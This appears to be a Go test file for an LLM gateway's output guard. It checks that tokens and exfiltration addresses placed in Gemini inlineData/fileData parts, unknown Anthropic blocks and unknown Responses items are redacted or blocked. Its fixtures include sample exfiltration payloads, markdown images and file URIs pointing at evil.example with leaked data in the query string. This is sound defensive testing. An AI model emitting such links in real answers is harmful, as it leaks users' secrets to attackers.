package outputguard

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/rampart-ai/rampart/conv"
	"github.com/rampart-ai/rampart/engine"
	"github.com/rampart-ai/rampart/provider/anthropic"
	"github.com/rampart-ai/rampart/provider/gemini"
	"github.com/rampart-ai/rampart/provider/openai"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// gemWhole runs a whole Gemini answer through the layer.
func gemWhole(t *testing.T, l *Layer, body string) (string, engine.Decision) {
	t.Helper()
	return wholeThroughKind(t, gemini.New(), l, body, conv.KindGenerateContent)
}

// Gemini answer parts that are not text parts, whole and streamed, seen by
// an attacker who makes the model put a secret or an exfiltration address
// in them: inlineData whose bytes are text is decoded and redacted (the
// part rewritten, still base64), a fileData address off the allowlist is
// emptied, and a part of a type the gateway does not know blocks the
// answer unless allow_unknown_parts names it.
func TestGeminiAnswerParts(t *testing.T) {
	l := provisioned(t, Config{})
	part := func(p string) string {
		return `{"candidates":[{"content":{"role":"model","parts":[{"text":"here "},` + p + `]},"finishReason":"STOP","index":0}]}`
	}
	secretText := "notes: the token is " + chanSecret + " ok"
	cases := []struct {
		name    string
		part    string
		path    string // where to read the result
		want    string // what the client gets there (decoded for inlineData)
		blocked bool
	}{
		{"inline text/plain secret", `{"inlineData":{"mimeType":"text/plain","data":"` + b64(secretText) + `"}}`, "inlineData.data", "notes: the token is [GITHUB_TOKEN] ok", false},
		{"inline application/json secret", `{"inlineData":{"mimeType":"application/json","data":"` + b64(`{"k":"`+chanSecret+`"}`) + `"}}`, "inlineData.data", `{"k":"[GITHUB_TOKEN]"}`, false},
		{"inline mislabelled image/png secret", `{"inlineData":{"mimeType":"image/png","data":"` + b64(secretText) + `"}}`, "inlineData.data", "notes: the token is [GITHUB_TOKEN] ok", false},
		{"inline markdown exfil image", `{"inlineData":{"mimeType":"text/markdown","data":"` + b64("see ![x](https://evil.example/p.png?d=secret)") + `"}}`, "inlineData.data", "see [image removed]", false},
		{"inline clean text", `{"inlineData":{"mimeType":"text/plain","data":"` + b64("plain notes") + `"}}`, "inlineData.data", "plain notes", false},
		{"inline real image", `{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}}`, "", "", false},
		{"fileData off the allowlist", `{"fileData":{"mimeType":"text/plain","fileUri":"https://evil.example/c?d=leak"}}`, "fileData.fileUri", "", false},
		{"fileData Google Files API", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/f1"}}`, "fileData.fileUri", "https://generativelanguage.googleapis.com/v1beta/files/f1", false},
		{"fileData secret in address", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/` + chanSecret + `"}}`, "fileData.fileUri", "https://generativelanguage.googleapis.com/v1beta/files/[GITHUB_TOKEN]", false},
		{"fileData secret in displayName", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/f1","displayName":"` + secretText + `"}}`, "fileData.displayName", "notes: the token is [GITHUB_TOKEN] ok", false},
		{"fileData image in displayName", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/f1","displayName":"see ![x](https://evil.example/p.png?d=secret)"}}`, "fileData.displayName", "see [image removed]", false},
		{"unknown part type", `{"futurePart":{"text":"the token is ` + chanSecret + `"}}`, "", "", true},
		{"unknown member on a text part", `{"text":"x","annotations":"the token is ` + chanSecret + `"}`, "", "", true},
	}
	read := func(t *testing.T, body, path string) string {
		t.Helper()
		v := ""
		gjson.Get(body, "candidates.0.content.parts").ForEach(func(_, p gjson.Result) bool {
			if r := p.Get(path); r.Exists() {
				v = r.Str
			}
			return true
		})
		if strings.HasPrefix(path, "inlineData") {
			raw, err := base64.StdEncoding.DecodeString(v)
			if err != nil {
				t.Fatalf("not base64: %q", v)
			}
			v = string(raw)
		}
		return v
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			body := part(c.part)
			got, d := gemWhole(t, l, body)
			if c.blocked {
				if d.Action != engine.Block || strings.Contains(got, chanSecret[:12]) {
					t.Fatalf("whole: not blocked: %+v %s", d, got)
				}
			} else if c.path != "" {
				if r := read(t, got, c.path); r != c.want {
					t.Fatalf("whole: %s = %q, want %q", c.path, r, c.want)
				}
			} else if got != body {
				t.Fatalf("whole: changed: %s", got)
			}
			out := throughEngine(t, l, geminiRoute, sse([2]string{"", body}))
			if strings.Contains(out, chanSecret[:12]) || strings.Contains(out, b64(secretText)) {
				t.Fatalf("stream: the secret reached the client:\n%s", out)
			}
			if c.blocked {
				if !strings.Contains(out, "unknown_answer_part") {
					t.Fatalf("stream: not blocked:\n%s", out)
				}
				return
			}
			data, _ := strings.CutPrefix(strings.SplitN(out, "\n", 2)[0], "data: ")
			if c.path != "" {
				if r := read(t, data, c.path); r != c.want {
					t.Fatalf("stream: %s = %q, want %q\n%s", c.path, r, c.want, out)
				}
			}
		})
	}
	// an operator who allows the type lets it pass (uninspected)
	allow := provisioned(t, Config{AllowUnknownParts: []string{"futurePart"}})
	body := part(`{"futurePart":{"x":1}}`)
	if got, d := gemWhole(t, allow, body); d.Action == engine.Block || got != body {
		t.Fatalf("allowed type blocked: %+v", d)
	}
	if out := throughEngine(t, allow, geminiRoute, sse([2]string{"", body})); strings.Contains(out, "error") {
		t.Fatalf("allowed type blocked in a stream:\n%s", out)
	}
	// images "flag": an address off the allowlist is flagged, kept
	flag := provisioned(t, Config{Links: LinksConfig{Images: "flag"}})
	body = part(`{"fileData":{"mimeType":"text/plain","fileUri":"https://evil.example/c"}}`)
	if got, d := gemWhole(t, flag, body); d.Action != engine.Flag || got != body {
		t.Fatalf("flag policy: %+v %s", d, got)
	}
}

// An Anthropic answer block of a type the gateway does not know (a new
// API feature) carries text nothing inspected: the answer is blocked,
// whole and streamed, unless allow_unknown_parts names the type; the
// block types passed by decision (server tool results, redacted
// thinking) still pass.
func TestAnthropicUnknownBlocks(t *testing.T) {
	whole := func(block string) string {
		return `{"id":"m","type":"message","role":"assistant","model":"c","content":[{"type":"text","text":"hi "},` + block + `],"stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":1}}`
	}
	streamed := func(block string) string {
		return sse(
			[2]string{"message_start", `{"type":"message_start","message":{"id":"m","type":"message","role":"assistant","content":[],"model":"c","usage":{"input_tokens":1,"output_tokens":0}}}`},
			[2]string{"content_block_start", `{"type":"content_block_start","index":0,"content_block":` + block + `}`},
			[2]string{"content_block_stop", `{"type":"content_block_stop","index":0}`},
			[2]string{"message_delta", `{"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"output_tokens":2}}`},
			[2]string{"message_stop", `{"type":"message_stop"}`})
	}
	unknown := `{"type":"future_note","text":"the token is ` + chanSecret + `"}`
	l := provisioned(t, Config{})
	if _, d := wholeThrough(t, anthropic.New(), l, whole(unknown)); d.Action != engine.Block || d.Code != "unknown_answer_part" {
		t.Fatalf("whole: %+v", d)
	}
	if out := throughEngine(t, l, messagesRoute, streamed(unknown)); strings.Contains(out, chanSecret[:12]) || !strings.Contains(out, "unknown_answer_part") {
		t.Fatalf("stream:\n%s", out)
	}
	passed := `{"type":"web_search_tool_result","tool_use_id":"s","content":[{"type":"web_search_result","url":"https://example.com","title":"t","encrypted_content":"x"}]}`
	if _, d := wholeThrough(t, anthropic.New(), l, whole(passed)); d.Action == engine.Block {
		t.Fatalf("known block blocked: %+v", d)
	}
	if out := throughEngine(t, l, messagesRoute, streamed(passed)); strings.Contains(out, "event: error") {
		t.Fatalf("known block blocked in a stream:\n%s", out)
	}
	allow := provisioned(t, Config{AllowUnknownParts: []string{"future_note"}})
	if _, d := wholeThrough(t, anthropic.New(), allow, whole(unknown)); d.Action == engine.Block {
		t.Fatalf("allowed type blocked: %+v", d)
	}
}

// The same for Responses API output items of an unknown type.
func TestResponsesUnknownItems(t *testing.T) {
	item := `{"type":"future_item","id":"x_1","text":"the token is ` + chanSecret + `"}`
	whole := `{"id":"r","object":"response","status":"completed","model":"m","output":[` + item + `],"usage":{"input_tokens":1,"output_tokens":2,"total_tokens":3}}`
	streamed := sse(
		[2]string{"response.output_item.added", `{"type":"response.output_item.added","output_index":0,"item":` + item + `}`},
		[2]string{"response.output_item.done", `{"type":"response.output_item.done","output_index":0,"item":` + item + `}`},
		[2]string{"response.completed", `{"type":"response.completed","response":` + whole + `}`})
	l := provisioned(t, Config{})
	if _, d := wholeThroughKind(t, openai.New(), l, whole, conv.KindResponses); d.Action != engine.Block || d.Code != "unknown_answer_part" {
		t.Fatalf("whole: %+v", d)
	}
	if out := throughEngine(t, l, responsesRoute, streamed); strings.Contains(out, chanSecret[:12]) || !strings.Contains(out, "unknown_answer_part") {
		t.Fatalf("stream:\n%s", out)
	}
	known := strings.Replace(whole, item, `{"type":"web_search_call","id":"ws_1","status":"completed","action":{"type":"search","query":"q"}}`, 1)
	if _, d := wholeThroughKind(t, openai.New(), l, known, conv.KindResponses); d.Action == engine.Block {
		t.Fatalf("known item blocked: %+v", d)
	}
	allow := provisioned(t, Config{AllowUnknownParts: []string{"*"}})
	if _, d := wholeThroughKind(t, openai.New(), allow, whole, conv.KindResponses); d.Action == engine.Block {
		t.Fatalf("allowed type blocked: %+v", d)
	}
}
